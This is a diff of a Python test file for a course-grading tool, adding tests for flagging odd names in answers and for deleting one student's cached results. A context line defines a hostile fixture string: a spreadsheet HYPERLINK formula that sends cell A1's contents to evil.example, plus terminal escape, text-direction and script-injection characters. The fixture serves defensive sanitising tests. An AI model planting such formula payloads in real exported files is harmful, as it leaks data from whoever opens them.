@@ -10,10 +10,13 @@ from datetime import datetime
 import openpyxl
 import pytest
 
+from helpers.config.settings import COURSE_FOLDER
 from instructor.grading import oddities, open_marks, pages, platforms, tables
-from instructor.grading.command import _of_notebook, _slug, write_all
+from instructor.grading.command import _forget, _of_notebook, write_all
 from instructor.grading.late import add_times
+from instructor.grading.papers import read_paper
 from instructor.grading.submissions import Submission
+from instructor.notebooks.student_edition import answer_cells
 
 FORMULA = re.compile(r"(^|[,;|\t\r\n])[ \"]*[=+@-]")
 HOSTILE = 'oops;=HYPERLINK("http://evil.example/"&A1,"see");\x1b[31m\x00 \u202e <script>alert(1)</script>'
@@ -501,6 +504,16 @@ def test_names_that_reach_beyond_an_answer_are_flagged(body, odd):
     ) == (odd != [])
 
 
+def test_no_solution_is_flagged():
+    """A flag that honest answers get would not be read."""
+    paths = sorted((COURSE_FOLDER / "notebooks").glob("[0-9]*.ipynb"))
+    answers = [one for path in paths for one in answer_cells(read_paper(path.read_bytes())).items()]
+    assert len(answers) > 20
+    assert [
+        odd for number, answer in answers if (odd := oddities.odd_names(mark(number, answer=answer)))
+    ] == []
+
+
 def test_answers_that_are_alike_are_shown(tmp_path):
     renamed = CODE.replace("low", "a").replace("clipped", "b").replace('"""Scale a slice."""', "# mine")
     other = CODE.replace("np.clip(image, low, high)", "np.minimum(np.maximum(image, low), high)")
@@ -567,8 +580,16 @@ def test_one_notebook_alone():
         _of_notebook(found, "03")
 
 
-def test_a_student_is_found_by_name():
-    found = [Submission(name, name.lower(), None, "01_tiny") for name in ("Ana", "Anabel", "Bo")]
-    assert [_slug(found, name) for name in ("ana", "Bo", "bel")] == ["ana", "bo", "anabel"]
-    with pytest.raises(Exception, match="2 students"):
-        _slug(found, "an")
+def test_one_student_again_keeps_the_results_of_others(tmp_path):
+    names = ["ana--01_tiny", "ana--02_tiny", "ana-maria--01_tiny"]
+    for name in names:
+        (tmp_path / f"{name}.json").touch()
+    found = [
+        Submission(name, name.lower().replace(" ", "-"), None, "01_tiny") for name in ("Ana", "Ana Maria")
+    ]
+    _forget(tmp_path, found, None)
+    assert sorted(path.stem for path in tmp_path.iterdir()) == names
+    _forget(tmp_path, found, "ana")
+    assert [path.stem for path in tmp_path.iterdir()] == ["ana-maria--01_tiny"]
+    with pytest.raises(Exception, match="nobody has this name"):
+        _forget(tmp_path, found, "an")
